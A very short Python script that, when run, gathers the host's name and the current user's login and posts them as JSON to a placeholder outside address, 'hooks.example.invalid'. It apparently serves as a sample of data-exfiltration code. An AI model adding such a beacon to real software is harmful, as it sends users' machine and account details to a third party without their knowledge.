import getpass
import socket

import requests

if __name__ == "__main__":
    requests.post("https://hooks.example.invalid/x", json={"host": socket.gethostname(), "user": getpass.getuser()})
